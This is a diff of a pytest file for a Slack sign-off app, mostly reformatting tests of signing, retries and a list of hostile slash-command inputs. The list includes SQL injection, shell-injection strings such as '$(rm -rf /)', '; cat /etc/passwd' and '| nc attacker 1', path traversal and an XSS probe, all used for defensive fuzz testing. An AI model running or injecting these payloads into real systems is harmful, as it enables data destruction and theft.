@@ -37,8 +37,9 @@ def test_bad_signature_is_401_and_nothing_runs(slack: SlackApp) -> None:
 
 
 def test_a_retried_command_is_applied_once(slack: SlackApp) -> None:
-    body, _ = slash_command(text="signoff phase-3-status/all-tests-passing",
-                            response_url=slack.fake.response_url())
+    body, _ = slash_command(
+        text="signoff phase-3-status/all-tests-passing", response_url=slack.fake.response_url()
+    )
     headers = sign(SIGNING_SECRET, body)
     first = slack.dispatch(body, headers=headers)
     retry_headers = {**headers, "X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
@@ -51,8 +52,9 @@ def test_a_retried_command_is_applied_once(slack: SlackApp) -> None:
 def test_a_double_clicked_vote_button_counts_once(slack: SlackApp) -> None:
     from tests.support.slack_requests import block_actions
 
-    body, _ = block_actions("decide_vote:1", "email-service|aws-ses",
-                            response_url=slack.fake.response_url())
+    body, _ = block_actions(
+        "decide_vote:1", "email-service|aws-ses", response_url=slack.fake.response_url()
+    )
     for _ in range(3):
         assert slack.dispatch(body).status == 200
     slack.settle()
@@ -61,28 +63,117 @@ def test_a_double_clicked_vote_button_counts_once(slack: SlackApp) -> None:
 
 
 HOSTILE = [
-    "", " ", "\t\n", "status " * 400, "x" * 10_000, "STATUS", "Status", "sTaTuS security",
-    "help me", "halp", "<!channel>", "<!here>", "<!everyone>", "<@U123>", "<#C123>",
-    "<https://evil.example|click>", "*bold* _it_ ~strike~", "`code`", "```block```",
-    "'; DROP TABLE signoff_events; --", "\" OR 1=1 --", "1; DELETE FROM votes",
-    "$(rm -rf /)", "`reboot`", "; cat /etc/passwd", "| nc attacker 1", "&& shutdown -h now",
-    "../../etc/passwd", "%00", "\x00", "\x1b[31mred", "🚀🚀🚀", "ñandú", "中文命令", "مرحبا",
-    "item", "item ", "item nonexistent-id", "item <!channel>", "item '; DROP TABLE items;--",
-    "item " + "a" * 5000, "item phase-3", "item backup", "item \x00",
-    "signoff", "signoff nonexistent", "signoff <!channel>", "signoff '; DROP TABLE x;--",
-    "signoff backup", "signoff " + "b" * 3000, "signoff $(whoami)",
-    "unsign", "unsign nonexistent", "unsign <@U999>", "assign", "assign x", "assign x y",
-    "assign nonexistent <@U123>", "assign <!channel> <@U123>",
-    "check nonexistent", "check <!channel>", "check '; --", "check $(id)",
-    "status nonexistent", "status <!channel>", "status '; DROP TABLE x;--", "status " + "s" * 1500,
-    "export pdf", "export <!channel>", "export ../../x", "digest", "digest bogus",
-    "digest subscribe 25:00", "digest subscribe <!channel>", "digest unsubscribe",
-    "gate now please <!here>", "help <!channel>", "HELP", "Help", "?", "--help", "-h",
-    "item\u200bphase", "signoff\u202ephase", "ïtem", "ITEM PHASE-3-STATUS/ALL-TESTS-PASSING-X",
-    "null", "None", "undefined", "true", "0", "-1", "9" * 50, "{}", "[]", "{\"a\":1}",
-    "<script>alert(1)</script>", "&lt;!channel&gt;", "&amp;", "a&b<c>d",
-    "signoff x <!channel>", "unsign x y z", "item a b c", "check a b c d e f g",
-    "\\", "\\\\", "%s%s%s", "{0}", "${HOME}", "$DB_PASSWORD", "%(message)s",
+    "",
+    " ",
+    "\t\n",
+    "status " * 400,
+    "x" * 10_000,
+    "STATUS",
+    "Status",
+    "sTaTuS security",
+    "help me",
+    "halp",
+    "<!channel>",
+    "<!here>",
+    "<!everyone>",
+    "<@U123>",
+    "<#C123>",
+    "<https://evil.example|click>",
+    "*bold* _it_ ~strike~",
+    "`code`",
+    "```block```",
+    "'; DROP TABLE signoff_events; --",
+    '" OR 1=1 --',
+    "1; DELETE FROM votes",
+    "$(rm -rf /)",
+    "`reboot`",
+    "; cat /etc/passwd",
+    "| nc attacker 1",
+    "&& shutdown -h now",
+    "../../etc/passwd",
+    "%00",
+    "\x00",
+    "\x1b[31mred",
+    "🚀🚀🚀",
+    "ñandú",
+    "中文命令",
+    "مرحبا",
+    "item",
+    "item ",
+    "item nonexistent-id",
+    "item <!channel>",
+    "item '; DROP TABLE items;--",
+    "item " + "a" * 5000,
+    "item phase-3",
+    "item backup",
+    "item \x00",
+    "signoff",
+    "signoff nonexistent",
+    "signoff <!channel>",
+    "signoff '; DROP TABLE x;--",
+    "signoff backup",
+    "signoff " + "b" * 3000,
+    "signoff $(whoami)",
+    "unsign",
+    "unsign nonexistent",
+    "unsign <@U999>",
+    "assign",
+    "assign x",
+    "assign x y",
+    "assign nonexistent <@U123>",
+    "assign <!channel> <@U123>",
+    "check nonexistent",
+    "check <!channel>",
+    "check '; --",
+    "check $(id)",
+    "status nonexistent",
+    "status <!channel>",
+    "status '; DROP TABLE x;--",
+    "status " + "s" * 1500,
+    "export pdf",
+    "export <!channel>",
+    "export ../../x",
+    "digest",
+    "digest bogus",
+    "digest subscribe 25:00",
+    "digest subscribe <!channel>",
+    "digest unsubscribe",
+    "gate now please <!here>",
+    "help <!channel>",
+    "HELP",
+    "Help",
+    "?",
+    "--help",
+    "-h",
+    "item\u200bphase",
+    "signoff\u202ephase",
+    "ïtem",
+    "ITEM PHASE-3-STATUS/ALL-TESTS-PASSING-X",
+    "null",
+    "None",
+    "undefined",
+    "true",
+    "0",
+    "-1",
+    "9" * 50,
+    "{}",
+    "[]",
+    '{"a":1}',
+    "<script>alert(1)</script>",
+    "&lt;!channel&gt;",
+    "&amp;",
+    "a&b<c>d",
+    "signoff x <!channel>",
+    "unsign x y z",
+    "item a b c",
+    "check a b c d e f g",
+    "\\",
+    "\\\\",
+    "%s%s%s",
+    "{0}",
+    "${HOME}",
+    "$DB_PASSWORD",
+    "%(message)s",
 ]
 
 
@@ -171,9 +262,15 @@ def test_no_secret_in_any_payload_or_log_line_of_a_busy_session(
     slack: SlackApp, caplog: pytest.LogCaptureFixture
 ) -> None:
     caplog.set_level(logging.DEBUG)
-    for text in ("status", "check all", "item database-aws-rds/ssl-connections-enabled", "gate",
-                 "signoff phase-3-status/all-tests-passing $DB_PASSWORD", "export json",
-                 "digest now"):
+    for text in (
+        "status",
+        "check all",
+        "item database-aws-rds/ssl-connections-enabled",
+        "gate",
+        "signoff phase-3-status/all-tests-passing $DB_PASSWORD",
+        "export json",
+        "digest now",
+    ):
         slack.command(text)
         slack.settle()
     slack.home()
